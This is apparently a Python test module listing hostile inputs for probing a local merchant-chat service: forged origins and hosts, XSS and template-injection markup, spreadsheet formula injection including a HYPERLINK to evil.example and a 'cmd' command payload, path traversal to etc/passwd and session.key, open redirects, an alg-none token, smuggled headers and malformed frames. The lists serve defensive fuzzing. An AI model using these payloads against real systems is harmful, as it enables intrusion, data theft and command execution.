"""The lists that the attempts are made of: foreign names, markup, formulas, paths, junk."""

from __future__ import annotations

from typing import Final

ORIGINS: Final = (
    "https://evil.example", "http://evil.example", "null", "file://", "chrome-extension://a",
    "chrome-extension://abcdefghijklmnopabcdefghijklmnop", "https://mms.pinduoduo.com",
    "https://im.jinritemai.com", "http://127.0.0.1", "http://127.0.0.1:1", "http://localhost:80",
    "http://127.0.0.1.evil.example", "http://[::1]:1", "https://localhost.evil.example",
    "moz-extension://x", "data:", "about:blank", "ftp://127.0.0.1", " ", "http://",
)  # fmt: skip
HOSTS: Final = (
    "evil.example", "127.0.0.1.evil.example", "evil.example:{port}", "0.0.0.0:{port}",
    "169.254.169.254", "localhost.evil.example:{port}", "127.1:{port}", "2130706433:{port}",
    "0x7f.1:{port}", "rebind.example:{port}", "127.0.0.1:1", "[::ffff:127.0.0.1]:{port}",
    "127.0.0.1@evil.example", "-", "a" * 300,
)  # fmt: skip
MARKUP: Final = (
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "\"><svg onload=alert(1)>",
    "'><script>alert(1)</script>", "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>", "<iframe srcdoc='<script>alert(1)</script>'>",
    "<a href=javascript:alert(1)>x</a>", "{{7*191}}", "${7*191}", "{%print(7*191)%}",
    "<style>@import'//evil.example'</style>", "<math><mtext><script>alert(1)</script>",
    "<<script>alert(1)//<</script>", "<body onload=alert(1)>", "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>", "\u2028<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x></SCRIPT>", "<object data=javascript:alert(1)>",
)  # fmt: skip
RAN: Final = ("<script>alert(1)", "onerror=alert(1)>", "onload=alert(1)>", "1337", "<svg onload",
              "<iframe srcdoc", "ontoggle=alert(1)>", "onfocus=alert(1)>", "<SCRIPT SRC",
              "<object data", "<style>@import", "<a href=javascript:")  # fmt: skip
"""What stands in a page only where markup got through, or a template was run (7 times 191)."""
FORMULAS: Final = tuple(
    lead + sign + rest
    for lead in ("", " ", "\t", "\u3000", "\n", "\u200b", "'")
    for sign in ("=", "+", "-", "@", "＝", "＋", "－", "＠", "﹦")
    for rest in ('HYPERLINK("http://evil.example","x")', "cmd|' /C calc'!A0", "1+1")
)
PATHS: Final = tuple(
    root + up * 6 + name
    for root in ("/static/", "/assets/extension/", "/assets/", "/lead/", "/qa/")
    for up in ("../", "..%2f", "%2e%2e/", "%2e%2e%2f", "..%5c", "....//", "..%c0%af", "..;/")
    for name in ("etc/passwd", "bangda.db", "session.key")
)
NEXTS: Final = (
    "//evil.example", "/\\evil.example", "/%09/evil.example", "/\t/evil.example", "https:evil",
    "https://evil.example", "///evil.example", "/\n/evil.example", "javascript:alert(1)",
    "\\\\evil.example", "/%5cevil.example", "/..//evil.example", "http:///evil.example",
    "%2f%2fevil",
)  # fmt: skip
TOKENS: Final = (
    "", " ", "x", "' OR 1=1 --", "%", "*", "null", "true", "0", "Bearer", "admin", "\u0000",
    "a" * 5000,
    "../session.key", "{}", "[]", "bangda_", "eyJhbGciOiJub25lIn0.e30.",
)  # fmt: skip
HEADERS: Final = (
    ("Content-Length", "-1"), ("Content-Length", "1e9"), ("Content-Length", "99999999999"),
    ("Transfer-Encoding", "chunked, identity"), ("Transfer-Encoding", "xchunked"),
    ("X-Forwarded-For", "127.0.0.1"), ("X-Forwarded-Host", "evil.example"),
    ("X-Forwarded-Proto", "https"), ("X-Original-URL", "/qa"), ("X-Rewrite-URL", "/lead"),
    ("X-HTTP-Method-Override", "DELETE"), ("Cookie", "a" * 4000), ("Cookie", "bangda=; ;;=\x01"),
    ("Range", "bytes=0-,0-,0-,0-"), ("Accept-Language", "," * 3000),
    ("Authorization", "Basic Og=="),
    ("Authorization", "Bearer " + "a" * 5000), ("If-None-Match", "\"" * 1000),
    ("Upgrade", "h2c"), ("Connection", "Upgrade, close, keep-alive"), ("Expect", "200-maybe"),
    ("Content-Type", "multipart/form-data; boundary=" + "a" * 500),
    ("Content-Type", "application/x-www-form-urlencoded; charset=utf-7"),
)  # fmt: skip
FRAMES: Final = (
    "", " ", "null", "[]", "{}", "1", "\"\"", "{", "\u0000", '{"type":null}', '{"type":1}',
    '{"type":"hello"}', '{"type":"hello","protocol":1,"token":{}}', '{"type":"__proto__"}',
    '{"type":"message"}', '{"type":"message","text":1}', '{"type":"message","text":"a","page":[]}',
    '{"type":"message","text":"a","history":{}}', '{"type":"message","text":"a","shopper":"x"}',
    '{"type":"message","text":"a","sent_at":"9999-99-99"}', '{"type":"draft","text":null}',
    '{"type":"event"}', '{"type":"event","event":"sent","details":"x"}',
    '{"type":"event","event":"nothing"}', '{"type":"event","event":"sent","at":"x"}',
    '{"type":"search","query":"a","top":-1}', '{"type":"search","query":"a","top":1e99}',
    '{"type":"search","query":"a","script_ids":[1]}', '{"type":"phrase","phrase_id":1e400}',
    '{"type":"phrase","phrase_id":99999999999999999999}', '{"type":"waiting","waiting":[1]}',
    '{"type":"message","text":"\\ud800"}', '{"type":"message","shop":"../..","text":"a"}',
    '{"type":"message","shop":"shop-b","text":"a"}', "[" * 5000, '{"a":' * 5000,
    '{"type":"message","text":"a","conversation_id":["x"]}',
    '{"type":"pong","x":' + "9" * 5000 + "}",
    '{"type":"image","name":"../../session.key"}', '{"type":"work","action":"x"}',
    '{"type":"shopper","shopper":1}', "\ud7ff\uffff",
)  # fmt: skip
